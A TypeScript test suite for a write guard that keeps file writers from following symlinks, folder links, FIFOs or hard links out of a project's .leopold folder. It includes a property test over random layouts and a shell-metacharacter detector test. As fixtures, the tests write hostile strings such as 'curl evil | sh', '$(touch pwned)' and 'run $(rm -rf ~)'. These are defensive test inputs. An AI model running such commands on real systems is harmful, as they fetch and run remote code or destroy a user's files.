// The one write guard (core/writeGuard.ts) and the writers built on it (core/atomic.ts), tried the way a cloned
// repository or a sandboxed agent would try them: real symlinks (to a stand-in for ~/.bashrc in a temp folder), a
// folder link in the middle of the path, `.leopold/` itself a link, FIFOs, hard links, and a property over seeded
// random layouts: whatever the layout, no byte outside the place a write is meant for changes.
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { linkSync, mkdirSync, readdirSync, readFileSync, realpathSync, symlinkSync, writeFileSync, lstatSync } from 'node:fs';
import { join } from 'node:path';
// One namespace: the same test runs against the writers before the guard (where some of them did not exist yet).
import * as atomic from '../../../src/core/atomic';
import {
  guardWrite, guardWriteOutside, HardLinkRefusedError, NotRegularFileError, shellMetacharacters, SymlinkRefusedError, WriteOutsideError,
} from '../../../src/core/writeGuard';
import { assertHomeUntouched, homeLayout } from '../../support/homeStandIn';
import { tempDir } from '../../support/tempDir';
import { rngInt } from '../../support/rng';

const { appendLine, createExclusive, mergeStateFields, openForAppend, touchFlagFile, writeFileAtomic } = atomic;


describe('core/writeGuard: no write follows a link out of the place it is meant for', function () {
  this.timeout(60_000);
  const tmp = tempDir('leo-wguard-');

  /** A project with `.leopold/`, and a "home" beside it holding a `.bashrc` stand-in. */
  const layout = () => homeLayout(tmp());
  const homeUntouched = assertHomeUntouched;

  it('.leopold/CHARTER.md -> ~/.bashrc: refused with the path it points to, by every writer', async () => {
    const l = layout();
    const charter = join(l.leo, 'CHARTER.md');
    symlinkSync(l.bashrc, charter);
    await assert.rejects(guardWrite(charter, l.leo, { inPlace: true }), (e: Error) =>
      e instanceof SymlinkRefusedError && e.pointsTo === realpathSync(l.bashrc) && e.message.includes(realpathSync(l.bashrc)));
    await assert.rejects(writeFileAtomic(charter, '$(touch pwned)', { within: l.leo }), SymlinkRefusedError);
    await assert.rejects(appendLine(charter, '$(touch pwned)\n', l.leo), SymlinkRefusedError);
    await assert.rejects(createExclusive(charter, 'x', l.leo), SymlinkRefusedError);
    homeUntouched(l, 'a link at the name');
    assert.ok(lstatSync(charter).isSymbolicLink(), 'the link itself is left as it is');
  });

  it('a folder link in the middle of the path (.leopold/runs -> ~) is refused: no writer reaches the folder behind it', async () => {
    const l = layout();
    symlinkSync(l.home, join(l.leo, 'runs'));
    const via = (name: string) => join(l.leo, 'runs', name);
    const refused = (e: Error) => e instanceof SymlinkRefusedError && e.path === join(l.leo, 'runs') && e.pointsTo === realpathSync(l.home);
    await assert.rejects(guardWrite(via('.bashrc'), l.leo), refused);
    await assert.rejects(appendLine(via('.bashrc'), 'curl evil | sh\n', l.leo), refused);
    await assert.rejects(writeFileAtomic(via('notes.json'), '{}', { within: l.leo }), refused);
    await assert.rejects(touchFlagFile(via('STOP'), l.leo), refused);
    await assert.rejects(createExclusive(via('marker'), 'x', l.leo), refused);
    await assert.rejects(openForAppend(via('agent.log'), l.leo), refused);
    homeUntouched(l, 'a folder link');
  });

  it('.leopold itself a link out of the project: state.json behind it is never rewritten', async () => {
    const l = layout();
    const elsewhere = join(l.base, 'elsewhere');
    mkdirSync(elsewhere);
    const state = '{"active":true}\n';
    writeFileSync(join(elsewhere, 'state.json'), state);
    const linked = join(l.base, 'proj2', '.leopold');
    mkdirSync(join(l.base, 'proj2'));
    symlinkSync(elsewhere, linked);
    await assert.rejects(mergeStateFields(linked, () => ({ fields: { active: false }, value: 0 })), SymlinkRefusedError);
    await assert.rejects(appendLine(join(linked, 'events.jsonl'), '{}\n', linked), SymlinkRefusedError);
    assert.equal(readFileSync(join(elsewhere, 'state.json'), 'utf8'), state);
    assert.deepEqual(readdirSync(elsewhere), ['state.json']);
  });

  it('a FIFO, a folder or a socket-like thing at the name is refused at once, never opened', async () => {
    const l = layout();
    const fifo = join(l.leo, 'commands.jsonl');
    execFileSync('mkfifo', [fifo]);
    await assert.rejects(guardWrite(fifo, l.leo), (e: Error) => e instanceof NotRegularFileError && /fifo/.test(e.message));
    await assert.rejects(appendLine(fifo, 'x\n', l.leo), NotRegularFileError);
    await assert.rejects(writeFileAtomic(fifo, 'x', { within: l.leo }), NotRegularFileError);
    mkdirSync(join(l.leo, 'CHARTER.md'));
    await assert.rejects(guardWrite(join(l.leo, 'CHARTER.md'), l.leo), NotRegularFileError);
    // A file where a folder of the path should be.
    writeFileSync(join(l.leo, 'runs'), 'x');
    await assert.rejects(guardWrite(join(l.leo, 'runs', 'a.json'), l.leo), NotRegularFileError);
  });

  it('an in-place write refuses a hard-linked file (it would change the other name too); a rename does not need to', async () => {
    const l = layout();
    const charter = join(l.leo, 'CHARTER.md');
    linkSync(l.bashrc, charter);
    await assert.rejects(guardWrite(charter, l.leo, { inPlace: true }), HardLinkRefusedError);
    // The atomic writer replaces the name: the other name keeps its bytes.
    await writeFileAtomic(charter, '# Charter\n', { within: l.leo });
    assert.equal(readFileSync(charter, 'utf8'), '# Charter\n');
    homeUntouched(l, 'a hard link replaced by rename');
  });

  it('a target outside the place, or the place itself, is refused; a link above the place is resolved, not refused', async () => {
    const l = layout();
    await assert.rejects(guardWrite(join(l.leo, '..', 'CHARTER.md'), l.leo), WriteOutsideError);
    await assert.rejects(guardWrite(l.leo, l.leo), WriteOutsideError);
    await assert.rejects(writeFileAtomic(join(l.home, 'x'), 'x', { within: l.leo }), WriteOutsideError);
    // The project opened through a linked folder: the real path is answered.
    const alias = join(l.base, 'alias');
    symlinkSync(join(l.base, 'proj'), alias);
    const real = await guardWrite(join(alias, '.leopold', 'CHARTER.md'), join(alias, '.leopold'));
    assert.equal(real, join(realpathSync(l.leo), 'CHARTER.md'));
    await writeFileAtomic(join(alias, '.leopold', 'CHARTER.md'), '# ok\n', { within: join(alias, '.leopold') });
    assert.equal(readFileSync(join(l.leo, 'CHARTER.md'), 'utf8'), '# ok\n');
  });

  it('an export refuses .leopold/ by its real path (notes -> .leopold), a link at the name, and takes an ordinary folder', async () => {
    const l = layout();
    const notes = join(l.base, 'proj', 'notes');
    symlinkSync(l.leo, notes);
    await assert.rejects(guardWriteOutside(join(notes, 'window-3.md'), [l.leo]), WriteOutsideError);
    await assert.rejects(guardWriteOutside(join(l.leo, 'window-3.md'), []), WriteOutsideError, 'by its name too');
    symlinkSync(l.bashrc, join(l.base, 'proj', 'report.md'));
    await assert.rejects(guardWriteOutside(join(l.base, 'proj', 'report.md'), [l.leo]), SymlinkRefusedError);
    const docs = join(l.base, 'docs-link');
    symlinkSync(l.home, docs);
    assert.equal(await guardWriteOutside(join(docs, 'report.md'), [l.leo]), join(realpathSync(l.home), 'report.md'));
    homeUntouched(l, 'exports');
  });

  it('shell metacharacters are recognised, plain prose is not', () => {
    for (const s of ['run $(rm -rf ~)', 'a `b`', 'a; b', 'a | b', 'a && b', 'a > b', 'a < b', '${HOME}', 'two\nlines']) {
      assert.ok(shellMetacharacters(s), s);
    }
    for (const s of ['Never buffer a whole file', 'Prefer small public APIs (D1).', 'cost: $3.50', 'use 64 KiB chunks, not 1 MB']) {
      assert.ok(!shellMetacharacters(s), s);
    }
  });

  it('property: over 400 seeded random layouts, no writer changes a byte outside the place', async () => {
    const rnd = rngInt(0x5eed);
    const seen = { ok: 0, refused: 0 };
    for (let i = 0; i < 400; i++) {
      const l = layout();
      const outsideDir = join(l.base, 'outside');
      mkdirSync(outsideDir);
      writeFileSync(join(outsideDir, 'f'), 'outside\n');
      // A path of 0–3 folders below .leopold/, each a real folder, a link out, or a link within.
      let dir = l.leo;
      const depth = rnd(4);
      for (let d = 0; d < depth; d++) {
        const next = join(dir, `d${d}`);
        const kind = rnd(5);
        if (kind === 0) symlinkSync(rnd(2) ? outsideDir : l.home, next);
        else if (kind === 1) {
          mkdirSync(join(l.leo, `in${d}`), { recursive: true });
          symlinkSync(join(l.leo, `in${d}`), next);
        } else mkdirSync(next);
        dir = next;
      }
      const target = join(dir, rnd(2) ? 'f' : '.bashrc');
      const t = rnd(6);
      try {
        if (t === 0) symlinkSync(join(outsideDir, 'f'), target);
        else if (t === 1) symlinkSync(l.bashrc, target);
        else if (t === 2) writeFileSync(target, 'inside\n');
        else if (t === 3) linkSync(l.bashrc, target);
      } catch {
        // the folder is a link out: the name already exists there, or cannot be made; the layout stays as it is
      }
      const before = () => [readFileSync(join(outsideDir, 'f'), 'utf8'), readdirSync(outsideDir).sort().join(','),
        readFileSync(l.bashrc, 'utf8'), readdirSync(l.home).sort().join(',')];
      const was = before();
      const writers = [
        () => writeFileAtomic(target, 'NEW $(x)\n', { within: l.leo }),
        () => appendLine(target, 'NEW $(x)\n', l.leo),
        () => touchFlagFile(target, l.leo),
        () => createExclusive(target, 'NEW\n', l.leo),
      ];
      const which = rnd(writers.length);
      const w = writers[which];
      // A flag that is already there (wherever its folder leads) is left alone: nothing is written, so nothing to place.
      const flagThere = which === 2 && !!lstatSync(target, { throwIfNoEntry: false }) && !lstatSync(target).isSymbolicLink();
      const ok = await Promise.resolve().then(async () => { await w(); }).then(() => true, () => false);
      seen[ok ? 'ok' : 'refused']++;
      assert.deepEqual(before(), was, `layout ${i} (depth ${depth}, target kind ${t}): a write ${ok ? 'succeeded' : 'failed'} and changed outside`);
      if (ok && !flagThere) assert.ok(realpathSync(target).startsWith(realpathSync(l.leo)), `layout ${i}: written inside`);
    }
    assert.ok(seen.ok > 50 && seen.refused > 50, `both outcomes are tried (${JSON.stringify(seen)})`);
  });
});
